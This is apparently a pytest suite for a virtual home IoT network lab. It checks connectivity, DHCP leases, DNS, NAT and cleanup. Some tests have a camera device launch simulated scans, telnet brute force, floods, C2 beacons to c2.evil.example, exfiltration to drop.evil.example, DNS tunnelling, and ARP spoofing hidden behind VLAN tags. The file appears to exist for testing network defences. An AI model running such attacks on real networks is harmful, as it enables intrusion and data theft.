"""The virtual home does what tests of the integration take for granted, and cannot pass by being deaf."""

from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from ipaddress import IPv6Address
import json
import os
from pathlib import Path
import signal
import subprocess
import sys
import time
from typing import Any

from hypothesis import given, strategies as st
import pytest

from .network import wire
from .network.agent import dhcp, dns
from .network.catalogue import DEVICES
from .network.control import LabError
from .network.hosts import Device
from .network.lab import DIRECTIONS, Lab

NEWCOMER = replace(DEVICES[3], name="newcomer", mac="02:de:ad:00:00:99", hostname="who-is-this")
NAMESPACE = Path("/proc/thread-self/ns/net")
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def cut(home: Lab) -> Iterator[Device]:
    """The camera, with every frame that its MAC sends or gets dropped on the hub's bridge."""
    camera = home.device("camera")
    rules = [f"ether {side} {camera.mac} drop;" for side in ("saddr", "daddr")]
    chains = "".join(
        f"chain {hook} {{ type filter hook {hook} priority -300; {' '.join(rules)} }};"
        for hook in ("prerouting", "output", "forward")
    )
    home.hub.nft(f"table bridge lab_block {{ {chains} }}")
    yield camera
    home.hub.nft("delete table bridge lab_block")


def soon(condition: Any, within: float = 3.0) -> bool:
    end = time.monotonic() + within
    while not condition():
        if time.monotonic() > end:
            return False
        time.sleep(0.02)
    return True


def test_every_device_reaches_and_is_reached_in_every_direction(home: Lab) -> None:
    for device in home.devices:
        matrix = home.matrix(device, timeout=1.0)
        assert tuple(matrix) == DIRECTIONS
        assert all(matrix.values()), f"{device.name}: {[key for key, value in matrix.items() if not value]}"


def test_a_cut_device_reaches_nothing_and_saying_so_is_quick(home: Lab, cut: Device) -> None:
    before = time.monotonic()
    matrix = home.matrix(cut)
    assert not any(matrix.values()), matrix
    assert time.monotonic() - before < 1.5
    assert not cut.ping(home.internet.ipv4, timeout=0.2)
    assert not cut.udp_echo(home.laptop.ipv4, timeout=0.2)
    with pytest.raises(LabError):
        cut.dhcp_renew()
    others = home.matrix(home.device("tv"), peer=home.device("plug"))
    assert all(others.values()), others


def test_devices_are_who_they_say(home: Lab) -> None:
    """MAC, lease and SLAAC address belong together, and the DHCP server saw each fingerprint."""
    home.matrix(home.device("camera"))
    neighbours = home.hub.neighbours()
    log = "\n".join(home.said())
    assert len({device.mac for device in home.devices}) == len({device.ipv4 for device in home.devices}) == 8
    for spec, device in zip(DEVICES, home.devices, strict=True):
        assert device.mac == spec.mac
        assert home.hub.tcp(device.ipv4)
        assert IPv6Address(device.ipv6).packed[8:] == _eui64(spec.mac) == IPv6Address(device.ipv6_link_local).packed[8:]
        assert f"client provides name: {spec.hostname}" in log
        assert not spec.vendor_class or f"vendor class: {spec.vendor_class}" in log
    assert neighbours[home.device("camera").ipv4] == DEVICES[0].mac
    assert neighbours[home.device("camera").ipv6] == DEVICES[0].mac


def _eui64(mac: str) -> bytes:
    digits = bytes.fromhex(mac.replace(":", ""))
    return bytes([digits[0] ^ 2]) + digits[1:3] + b"\xff\xfe" + digits[3:]


def test_the_internet_has_names_and_a_certificate_that_counts(home: Lab) -> None:
    camera = home.device("camera")
    assert camera.resolve("cloud.camera.example") == ["203.0.113.10"]
    assert camera.resolve("cloud.camera.example", v6=True) == ["2001:db8:113::10"]
    assert camera.resolve("nobody.example") == []
    assert camera.resolve("living-room-tv.home.test") == [home.device("tv").ipv4]
    answer = camera.http_get("https://cloud.camera.example/alive")
    assert answer["status"] == 200
    assert "hello to 203.0.113.2" in answer["body"], "masqueraded behind the hub"
    with pytest.raises(LabError, match="CERTIFICATE_VERIFY_FAILED"):
        camera.http_get("https://203.0.113.10/")


def test_ports_open_and_close(home: Lab) -> None:
    plug, laptop = home.device("plug"), home.laptop
    assert laptop.can_reach(plug, tcp=80)
    assert laptop.can_reach(plug, udp=9999)
    assert not laptop.can_reach(plug, tcp=8081)
    plug.serve(tcp=[8081], udp=[8082])
    assert laptop.can_reach(plug, tcp=8081, v6=True)
    assert laptop.can_reach(plug, udp=8082, v6=True)
    plug.withdraw(tcp=[8081], udp=[8082])
    assert not laptop.can_reach(plug, tcp=8081)
    assert not laptop.can_reach(plug, udp=8082)


@pytest.mark.parametrize("v6", [False, True])
@pytest.mark.parametrize("udp", [False, True])
def test_the_instant_of_a_cut_can_be_seen(home: Lab, udp: bool, v6: bool) -> None:  # noqa: FBT001 - pytest passes by name
    camera = home.device("camera")
    session = camera.open_session(home.internet, udp=udp, v6=v6, interval=0.02)
    assert session.alive_within(0.5)
    home.hub.nft("table inet lab_block { chain c { type filter hook forward priority -300; drop; }; }")
    cut_at = time.monotonic()
    try:
        assert not session.alive_within(0.3)
        assert abs(session.last_seen - cut_at) < 0.2
        assert session.ended is None, "cut off in silence"
    finally:
        home.hub.nft("delete table inet lab_block")
    assert session.alive_within(2.0), "the connection outlives a short cut"
    session.close()


def test_leases_are_renewed_and_a_new_mac_is_a_new_host(home: Lab) -> None:
    speaker = home.device("speaker")
    old_ipv4, old_ipv6 = speaker.ipv4, speaker.ipv6
    renewed = f"DHCPACK(br-iot) {old_ipv4} {speaker.mac} kitchen-speaker"
    before = sum(renewed in line for line in home.said())
    speaker.dhcp_renew()
    assert soon(lambda: sum(renewed in line for line in home.said()) == before + 1)
    speaker.change_mac("02:00:5e:11:11:11")
    assert speaker.mac == "02:00:5e:11:11:11"
    assert speaker.ipv4 != old_ipv4
    assert speaker.ipv6 != old_ipv6
    assert all(home.matrix(speaker).values())
    speaker.change_mac(speaker.spec.mac)
    assert (speaker.ipv4, speaker.ipv6) == (old_ipv4, old_ipv6)


def test_a_newcomer_appears_and_a_device_loses_its_power(home: Lab) -> None:
    newcomer = home.add_device(NEWCOMER)
    assert all(home.matrix(newcomer).values())
    first, pid = newcomer.ipv4, newcomer.pid
    spec = home.power_cut("newcomer")
    assert not Path(f"/proc/{pid}").exists()
    assert not home.hub.tcp(first, timeout=0.2)
    assert home.add_device(spec).ipv4 == first
    home.power_cut("newcomer")


def test_a_newcomer_that_is_held_has_no_address(home: Lab) -> None:
    home.hub.nft(
        "table bridge lab_block { chain c { type filter hook prerouting priority -300;"
        f" ether saddr {NEWCOMER.mac} drop; }}; }}"
    )
    try:
        newcomer = home.add_device(NEWCOMER, within=0.5)
        assert not newcomer.has_ipv4
        assert not newcomer.has_ipv6
        with pytest.raises(LabError, match="no IPv4 address"):
            _ = newcomer.ipv4
        assert not any(home.matrix(newcomer).values())
    finally:
        home.hub.nft("delete table bridge lab_block")
    newcomer.join()
    assert all(home.matrix(newcomer).values())
    home.power_cut("newcomer")


def test_life_goes_on(home: Lab) -> None:
    for device in home.devices:
        device.live(seconds=1.5)
    assert soon(lambda: all(not d.activity()["life"]["running"] for d in home.devices), within=8.0)
    for device in home.devices:
        done = device.activity()["life"]
        assert not done["error"]
        assert done["answered"] == done["steps"] >= len(device.spec.habits), f"{device.name}: {done}"
    seen = home.internet.seen()
    assert seen["https bytes"].keys() >= {"cloud.camera.example", "music.speaker.example", "www.example"}
    assert seen["ntp"]


def _attacks(home: Lab) -> dict[str, dict[str, Any]]:
    peers = [device.ipv4 for device in home.devices]
    return {
        "scan": {"hosts": peers, "ports": [23, 80, 7], "count": 24, "pace": 0.0},
        "brute_force": {"host": home.internet.ipv4, "count": 3},
        "flood": {"host": home.laptop.ipv4, "count": 5, "pace": 0.0},
        "beacon": {"host": "c2.evil.example", "count": 3},
        "exfiltrate": {"url": "https://drop.evil.example/in", "count": 3},
        "dns_tunnel": {"domain": "tunnel.evil.example", "count": 5},
    }


def test_attacks_arrive_and_end(home: Lab) -> None:
    camera = home.device("camera")
    attacks = _attacks(home)
    for name, arguments in attacks.items():
        camera.run(name, **arguments)
    assert soon(lambda: not any(camera.activity()[name]["running"] for name in attacks), within=10.0)
    activity = camera.activity()
    for name, arguments in attacks.items():
        assert activity[name]["steps"] == arguments["count"], name
        expected = 16 if name == "scan" else arguments["count"]  # nobody has telnet open, all have echo, most 80
        assert activity[name]["answered"] == pytest.approx(expected, abs=6 if name == "scan" else 0), name
    seen = home.internet.seen()
    assert seen["telnet"]["203.0.113.2 root"] >= 2
    assert seen["https bytes"]["drop.evil.example"] == 3 * 65536
    assert sum(count for name, count in seen["dns"].items() if name.endswith(".tunnel.evil.example")) >= 5


def test_attacks_are_stopped(home: Lab) -> None:
    camera = home.device("camera")
    camera.run("beacon", host="c2.evil.example", pace=0.01)
    assert soon(lambda: camera.activity()["beacon"]["steps"] > 1)
    camera.live()
    camera.stop()
    assert soon(lambda: not any(job["running"] for job in camera.activity().values()), within=1.0)


@pytest.mark.parametrize("vlan", [False, True])
def test_an_arp_spoofer_takes_the_gateways_place(home: Lab, vlan: bool) -> None:  # noqa: FBT001 - pytest passes by name
    """Also behind a priority tag, which guards that look for plain ARP do not see."""
    camera, tv = home.device("camera"), home.device("tv")
    gateway = str(home.topology.iot.ipv4.ip)
    assert tv.tcp(gateway, timeout=1.0)
    assert tv.neighbours()[gateway] == home.topology.iot.mac
    camera.run("arp_spoof", claim=gateway, victim=tv.ipv4, victim_mac=tv.mac, vlan=vlan, count=40)
    assert soon(lambda: tv.neighbours().get(gateway) == camera.mac)
    camera.stop("arp_spoof")
    tv.agent.call("ip", lines=["neigh flush dev eth0"])
    assert soon(lambda: tv.tcp(gateway) and tv.neighbours()[gateway] == home.topology.iot.mac)


def test_a_frame_is_sent_as_it_is(home: Lab) -> None:
    stranger = "02:00:00:00:00:77"
    home.hub.nft(
        "table bridge lab_block { chain c { type filter hook prerouting priority -300;"
        f" ether saddr {stranger} ether type 0x88b5 counter; }}; }}"
    )
    frame = b"\xff" * 6 + bytes.fromhex(stranger.replace(":", "")) + b"\x88\xb5" + bytes(46)
    home.device("camera").send_raw(frame)
    listing = ["nft", "list", "table", "bridge", "lab_block"]
    try:
        assert soon(lambda: "counter packets 1 bytes 46" in home.hub.agent.call("feed", argv=listing, text=""))
    finally:
        home.hub.nft("delete table bridge lab_block")


def test_translation_comes_back_after_somebody_flushed_it(home: Lab) -> None:
    camera = home.device("camera")
    home.hub.nft("delete table ip lab_nat")
    assert not camera.can_reach(home.internet)
    home.masquerade()
    assert camera.can_reach(home.internet)


def test_one_host_serves_many_callers_at_once(home: Lab) -> None:
    """A slow question does not hold up a quick one."""
    camera = home.device("camera")
    with ThreadPoolExecutor(8) as pool:
        slow = [pool.submit(camera.tcp, "10.66.2.99", 7, 1.5) for _ in range(3)]
        before = time.monotonic()
        assert all(pool.map(lambda _: camera.tcp(home.laptop.ipv4), range(20)))
        assert time.monotonic() - before < 1.0
        assert not any(answer.result() for answer in slow)


BUILD = """
import json, sys
from tests.lab.network.catalogue import DEVICES
from tests.lab.network.lab import Lab
with Lab.routed(DEVICES[:2]) as lab:
    hosts = (lab.hub, lab.laptop, lab.internet, *lab.devices)
    matrix = lab.matrix(lab.device("camera"), timeout=1.0)
    print(json.dumps({"pids": [host.pid for host in hosts], "matrix": matrix}), flush=True)
    sys.stdin.read()
"""


def _children(pid: int) -> list[int]:
    return [int(child) for child in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]


def _gone(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] == "Z"
    except FileNotFoundError, ProcessLookupError:
        return True


def test_nothing_outlives_a_lab_that_is_killed() -> None:
    if reason := Lab.unavailable():
        pytest.skip(f"no network namespaces here: {reason}")
    with subprocess.Popen([sys.executable, "-c", BUILD], cwd=ROOT, stdin=-1, stdout=-1) as process:
        assert process.stdout is not None
        pids = json.loads(process.stdout.readline())["pids"]
        daemons = _children(pids[0])
        assert daemons, "dnsmasq is a child of the hub's agent"
        process.send_signal(signal.SIGKILL)
        process.wait()
        assert soon(lambda: all(_gone(pid) for pid in (*pids, *daemons)))


def test_a_plain_user_can_have_a_home() -> None:
    is_root = Path("/proc/self/uid_map").read_text().split() == ["0", "0", "4294967295"]
    drop = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"] if is_root else []
    plain = [*drop, "unshare", "-Urn"]
    if subprocess.run([*plain, "true"], check=False, capture_output=True).returncode:
        pytest.skip("this kernel gives plain users no namespaces")
    done = subprocess.run(
        [*plain, sys.executable, "-B", "-c", BUILD], cwd=ROOT, input="", capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    assert all(json.loads(done.stdout)["matrix"].values())


def test_in_a_flat_home_the_hub_is_one_host_among_others() -> None:
    if reason := Lab.unavailable():
        pytest.skip(f"no network namespaces here: {reason}")
    with Lab.flat(DEVICES[:2]) as lab:
        camera = lab.device("camera")
        assert all(lab.matrix(camera, timeout=1.0).values())
        chains = "".join(
            f"chain {hook} {{ type filter hook {hook} priority 0; policy drop; }};" for hook in ("input", "forward")
        )
        lab.hub.nft(f"table inet lab_block {{ {chains} }}")
        reached = {key: value for key, value in lab.matrix(camera).items() if "hub" not in key}
        assert all(reached.values()), "nothing of it passes the hub"
        assert not camera.can_reach(lab.hub)


def test_the_caller_returns_to_where_it_was() -> None:
    if reason := Lab.unavailable():
        pytest.skip(f"no network namespaces here: {reason}")
    before = NAMESPACE.readlink()
    with Lab.routed(()) as lab:
        assert NAMESPACE.readlink() != before
        assert lab.laptop.can_reach(lab.internet)
    assert NAMESPACE.readlink() == before


def test_a_home_that_cannot_be_built_leaves_nothing_behind() -> None:
    if reason := Lab.unavailable():
        pytest.skip(f"no network namespaces here: {reason}")
    before = NAMESPACE.readlink()
    bad = replace(DEVICES[0], mac="not a MAC")
    children = _children(os.getpid())
    with pytest.raises(LabError, match="lladdr"):
        Lab.routed((bad,)).__enter__()
    assert NAMESPACE.readlink() == before
    assert _children(os.getpid()) == children


@given(st.binary(max_size=200))
def test_a_torn_dns_message_is_an_error_and_nothing_else(packet: bytes) -> None:
    for parse in (dns.question, lambda data: dns.addresses(data, 0), lambda data: dns.answer(data, {})):
        try:
            parse(packet)
        except ValueError:
            continue


@given(st.binary(max_size=120), st.binary(max_size=4))
def test_a_torn_dhcp_message_is_no_message(options: bytes, transaction: bytes) -> None:
    header = bytes([2, 1, 6, 0]) + transaction.ljust(4, b"\0") + bytes(228) + dhcp.MAGIC
    found = dhcp.parse(header + options, transaction.ljust(4, b"\0"))
    assert found is None or len(found[1][dhcp.SERVER]) == 4
    assert dhcp.parse(options, transaction) is None


def test_the_control_line_is_bounded() -> None:
    with pytest.raises(ValueError, match="control message"):
        wire.encode({"text": "x" * wire.MAX_LINE})
    with pytest.raises(ValueError, match="is an object"):
        wire.decode(b"[]\n")
